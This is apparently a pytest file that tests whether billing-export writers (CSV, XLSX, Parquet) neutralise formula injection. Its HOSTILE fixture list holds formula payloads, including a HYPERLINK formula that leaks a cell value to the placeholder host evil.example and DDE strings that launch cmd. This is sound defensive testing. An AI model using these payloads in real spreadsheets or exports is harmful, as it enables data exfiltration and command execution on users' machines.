"""Issue 14 #2: no file carries a formula. For every writer (CSV with each regional option, XLSX, Parquet) and
every view (partner, reseller, customer) of every file type: no text cell a spreadsheet would evaluate, while
amounts (negative ones too) stay numbers and Parquet keeps the values and types as they are.

The hostile text comes from where it really would: Microsoft's own fields that customers write (CustomerName,
SubscriptionDescription, tags), a field Microsoft adds, and internal ids / PO numbers as stored before input was
restricted (the mappings are handed to the engine directly, as the identifier store would after an old write).
"""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from decimal import Decimal

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from shared.adapters.file_writers import BlockBlobSink, writer_for
from shared.core.models import CsvFormat
from shared.adapters.microsoft_json import batch_from_items
from shared.app.context import AppContext
from shared.core.boundaries import FORMULA_TRIGGERS
from shared.core.columns import LAYOUTS, Layout
from shared.core.margins import Mappings
from shared.core.models import FileFormat, View
from shared.core.reconcile import FilePlan
from shared.core.views import CUSTOMER_VIEW_TYPES

RESELLER = "1001"
CUSTOMER = "aaaaaaaa-0000-4000-8000-000000000001"
SUBSCRIPTION = "bbbbbbbb-0000-4000-8000-000000000002"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1",
]
# every delimiter, decimal separator and date format at least once
REGIONAL = [CsvFormat(delimiter=d, decimal_separator=s, date_format=f)
            for d, s, f in [(",", ".", "iso"), (";", ",", "eu"), ("\t", ".", "us"), ("|", ",", "iso"), ("\t", ",", "eu")]]
PLAIN_NUMBER = re.compile(r"-?[0-9]+([.,][0-9]+)?")
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
CASES = [(lay, view) for lay in LAYOUTS.values() for view in View
         if view != View.CUSTOMER or lay.file_type in CUSTOMER_VIEW_TYPES]


def evaluates(cell: str) -> bool:
    """What a spreadsheet would treat as a formula: a leading = + - @ tab or CR, unless it is a plain number."""
    return bool(cell) and cell[0] in FORMULA_TRIGGERS and not PLAIN_NUMBER.fullmatch(cell)


def _items(layout: Layout) -> list[dict[str, str]]:
    """Two lines of the customer (one a credit), every text field hostile, and a direct line (reseller -1)."""
    ids = {layout.reseller_column, layout.customer_column, layout.subscription_column}
    items = []
    for n, amount in enumerate(("100.00", "-33.33", "-5")):
        item = {}
        for i, col in enumerate(layout.columns):
            if col in layout.decimal_columns:
                item[col] = amount
            elif col in layout.date_columns:
                item[col] = "2026-10-01T00:00:00Z"
            elif col not in ids:
                item[col] = HOSTILE[(i + n) % len(HOSTILE)]
        item.update({layout.reseller_column: RESELLER if n < 2 else "-1", layout.customer_column: CUSTOMER,
                     layout.subscription_column: SUBSCRIPTION, "=NewFieldFromMicrosoft": HOSTILE[0]})
        items.append(item)
    return items


def _mappings() -> Mappings:
    return Mappings(resellers={RESELLER: HOSTILE[0]}, customers={CUSTOMER: HOSTILE[1]},
                    subscriptions={SUBSCRIPTION: HOSTILE[2]}, po_numbers={SUBSCRIPTION: HOSTILE[3]})


def _view_batch(layout: Layout, view: View) -> pa.RecordBatch:
    plan = FilePlan(layout, [], _mappings(), view=view, reseller_id=RESELLER if view == View.RESELLER else None,
                    customer_id=CUSTOMER if view == View.CUSTOMER else None)
    batch, totals = plan.process(batch_from_items(layout, _items(layout)))
    assert batch.num_rows == (2 if view == View.RESELLER else 3)
    return batch


def _write(ctx: AppContext, name: str, fmt: FileFormat, batch: pa.RecordBatch, layout: Layout,
           csv_format: CsvFormat = CsvFormat()) -> bytes:
    blob = ctx.storage.files.get_blob_client(name)
    writer = writer_for(fmt, BlockBlobSink(blob, 64 * 1024), csv_format, layout.date_columns, batch.schema.names)
    writer.begin_segment(0)
    writer.write(batch)
    writer.end_segment()
    writer.finish({})
    return blob.download_blob().readall()


@pytest.mark.parametrize("layout,view", CASES, ids=lambda c: getattr(c, "value", None) or c.file_type.value)
def test_no_text_cell_a_spreadsheet_would_evaluate(ctx: AppContext, layout: Layout, view: View) -> None:
    batch = _view_batch(layout, view)
    decimal_columns = {f.name for f in batch.schema if pa.types.is_decimal(f.type)}
    name = f"{layout.file_type.value}-{view.value}"

    for i, fmt in enumerate(REGIONAL):
        text = _write(ctx, f"{name}-{i}.csv", FileFormat.CSV, batch, layout, fmt).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=fmt.delimiter))
        header, lines = rows[0], rows[1:]
        assert len(lines) == batch.num_rows and all(len(r) == len(header) for r in lines)
        cells = [c for r in rows for c in r]
        assert not [c for c in cells if evaluates(c)], (fmt, [c for c in cells if evaluates(c)][:3])
        # the text survives, behind its apostrophe; amounts stay numbers, negative ones included
        assert f"'{HOSTILE[1]}" in cells and f"'{HOSTILE[0]}" in cells
        customer_subtotal = [r[header.index("CustomerSubtotal")] for r in lines]
        assert customer_subtotal == [a.replace(".", fmt.decimal_separator) for a in ("100", "-33.33", "-5")][
            :len(lines)]
        if view == View.PARTNER:
            assert "'=NewFieldFromMicrosoft" in header  # a field name Microsoft adds is a cell too
            assert [r[header.index(layout.reseller_column)] for r in lines][-1] == "-1"  # a number, untouched

    sheet, styles = _xlsx(_write(ctx, f"{name}.xlsx", FileFormat.XLSX, batch, layout))
    assert not sheet.findall(".//m:f", NS)  # not a single formula
    quoted = {i for i, xf in enumerate(styles.findall("m:cellXfs/m:xf", NS)) if xf.get("quotePrefix") == "1"}
    texts = numbers = 0
    for cell in sheet.iter(f"{{{NS['m']}}}c"):
        if cell.get("t") == "inlineStr":
            value = "".join(t.text or "" for t in cell.iter(f"{{{NS['m']}}}t"))
            texts += 1
            if evaluates(value):  # text that looks like a formula: a string cell, quote-prefixed
                assert int(cell.get("s", "0")) in quoted, value
        else:
            assert cell.get("t") in (None, "n"), cell.attrib  # no "str" (a formula's result) or shared formula
            numbers += 1
    assert texts and numbers >= len(decimal_columns) * batch.num_rows

    table = pq.read_table(io.BytesIO(_write(ctx, f"{name}.parquet", FileFormat.PARQUET, batch, layout)))
    assert table.schema == batch.schema  # typed: decimals stay decimals, text stays text
    assert table.to_pylist() == pa.Table.from_batches([batch]).to_pylist()  # unchanged, not neutralised
    assert Decimal("-33.33") in table.column("CustomerSubtotal").to_pylist()


def _xlsx(data: bytes) -> tuple[ET.Element, ET.Element]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return ET.fromstring(z.read("xl/worksheets/sheet1.xml")), ET.fromstring(z.read("xl/styles.xml"))
